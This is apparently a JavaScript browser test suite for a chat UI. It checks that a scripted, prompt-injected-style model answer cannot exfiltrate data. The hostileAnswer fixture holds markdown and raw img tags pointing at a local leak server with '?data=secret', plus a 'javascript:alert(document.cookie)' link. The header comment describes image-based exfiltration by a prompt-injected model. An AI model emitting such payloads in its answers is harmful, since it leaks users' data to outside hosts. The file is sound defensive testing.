// Security finding #4, in a real browser: an answer whose markdown holds images
// pointing at a server the test runs (as a guest's name in a bookings table would,
// or a prompt-injected model trying to send data out) makes the browser fetch
// nothing; and the page is served with a Content-Security-Policy that Chromium
// enforces, so even an image that got into the page some other way is refused.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, before, describe, test } from 'node:test';

import {
  ask,
  assertCleanPage,
  byTestId,
  diagnosed,
  isCspViolation,
  lastAssistant,
  launchBrowser,
  newPage,
  signIn,
  waitFor,
} from '../lib/browser.mjs';
import { startStack } from '../lib/stack.mjs';

// A 1x1 transparent PNG: if the browser ever asks, it gets a real image.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

/** An HTTP server on a free port that records the path of every request it gets. */
async function startLeakServer() {
  const requests = [];
  const server = createServer((req, res) => {
    requests.push(req.url);
    if (req.url === '/probe') {
      // A page with an icon of its own, so that visiting it costs no /favicon.ico.
      res.writeHead(200, { 'content-type': 'text/html', 'cache-control': 'no-store' });
      res.end('<!doctype html><link rel="icon" href="data:,"><title>probe</title>');
      return;
    }
    res.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
    res.end(PNG);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    requests,
    async stop() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** The scripted model's answer: every way markdown can ask for an image. */
function hostileAnswer(leak) {
  return [
    "Here are tonight's bookings:",
    '',
    '| Time | Guest | Note |',
    '|:---|:---:|---:|',
    `| 19:00 | ![x](${leak}/leak.png) | window |`,
    '| 20:00 | Ada Lovelace | ![tracker][t] |',
    '',
    `[t]: ${leak}/reference.png`,
    '',
    `Also ![inline](${leak}/inline.png?data=secret), <img src="${leak}/raw.png">`,
    'and [a link](javascript:alert(document.cookie)).',
  ].join('\n');
}

describe('untrusted markdown in answers', () => {
  let stack, browser, page, leak;
  const it = (name, body) => test(name, diagnosed(() => ({ page, stack }), body));
  const uiResponses = [];

  before(diagnosed(() => ({ page, stack }), async () => {
    leak = await startLeakServer();
    stack = await startStack({ script: { repeat: { text: hostileAnswer(leak.url) } } });
    browser = await launchBrowser();
    page = await newPage(browser, stack);
    page.on('response', (response) => {
      if (response.url().startsWith(stack.gatewayUrl)) uiResponses.push(response);
    });
  }));

  after(async () => {
    await browser?.close();
    await stack?.stop();
    await leak?.stop();
  });

  it('the browser can reach the leak server, so zero requests below means something', async () => {
    // A top-level navigation, which no page's policy governs.
    const probe = await browser.newPage();
    await probe.goto(`${leak.url}/probe`, { waitUntil: 'load' });
    await probe.waitForTimeout(300);
    await probe.close();
    assert.deepEqual(leak.requests, ['/probe']);
    leak.requests.length = 0;
  });

  it('serves the page and its assets with the Content-Security-Policy', async () => {
    const response = await page.goto('/');
    const csp = response.headers()['content-security-policy'];
    assert.ok(csp, 'the page has a Content-Security-Policy');
    const directives = new Map(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter(([name]) => name)
        .map(([name, ...sources]) => [name, sources]),
    );
    assert.deepEqual(directives.get('img-src'), ["'self'"]);
    assert.deepEqual(directives.get('frame-ancestors'), ["'none'"]);
    assert.equal(response.headers()['x-content-type-options'], 'nosniff');
    assert.equal(response.headers()['referrer-policy'], 'no-referrer');

    await page.locator(byTestId('login-button')).waitFor();
    const script = uiResponses.find((r) => /\/assets\/.+\.js$/.test(new URL(r.url()).pathname));
    assert.ok(script, 'the app script was loaded from /assets/');
    const assetHeaders = await script.allHeaders();
    assert.equal(assetHeaders['content-security-policy'], csp);
    assert.equal(assetHeaders['x-content-type-options'], 'nosniff');
  });

  it('an answer full of images loads none of them and shows their alt text', async () => {
    await signIn(page, stack, 'user');
    await ask(page, "Show tonight's bookings");
    const answer = lastAssistant(page);
    await answer.message.and(page.locator('[data-streaming="false"]')).waitFor();
    await answer.text.locator('table tbody tr').nth(1).waitFor();

    assert.equal(await page.locator('img').count(), 0, 'no <img> anywhere on the page');
    const cells = await answer.text.locator('tbody td').allInnerTexts();
    assert.deepEqual(
      cells.map((c) => c.trim()),
      ['19:00', 'x', 'window', '20:00', 'Ada Lovelace', 'tracker'],
    );
    const shown = await answer.text.locator(byTestId('markdown-image')).allInnerTexts();
    assert.deepEqual(shown, ['x', 'tracker', 'inline']);
    assert.equal(await answer.text.locator('a[href^="javascript:" i]').count(), 0);
    assert.match(await answer.text.innerText(), /a link/);

    // Give a stray request time to arrive: loads start as soon as an <img> is
    // parsed, well within this, and nothing after the answer renders anything new.
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(500);
    assert.deepEqual(leak.requests, [], 'requests reached the leak server');
    // The UI itself ran under its policy without tripping it.
    assert.deepEqual(page.cspViolations, []);
  });

  it('reopening the conversation renders the stored answer just as safely', async () => {
    await page.reload();
    const answer = lastAssistant(page);
    await answer.text.locator('table tbody tr').nth(1).waitFor();
    assert.equal(await page.locator('img').count(), 0);
    await page.waitForLoadState('networkidle');
    assert.deepEqual(leak.requests, []);
  });

  it('an image put into the page by other means is refused by the policy, and reported', async () => {
    // The second line of defence, on its own: inject an <img> as a script could,
    // and watch Chromium refuse it. This is also the proof that a violation shows
    // on the console, where every other test file looks for them.
    const violation = page.evaluate(
      (src) =>
        new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
          const img = document.createElement('img');
          img.src = src;
          document.body.append(img);
        }),
      `${leak.url}/injected.png`,
    );
    assert.equal(await violation, 'img-src');
    await waitFor(() => page.cspViolations.some((text) => text.includes('/injected.png')), {
      message: 'the violation on the console',
    });
    assert.ok(page.cspViolations.every(isCspViolation));
    await page.waitForTimeout(500);
    assert.deepEqual(leak.requests, [], 'the injected image reached the leak server');
    // Expected here; taken out so the last check sees only what normal use caused
    // (anything else, such as a blocked image from an answer, stays and fails it).
    page.cspViolations = page.cspViolations.filter((text) => !text.includes('/injected.png'));
  });

  it('threw no uncaught errors in the page, and broke no Content-Security-Policy', () => {
    assertCleanPage(assert, page);
  });
});
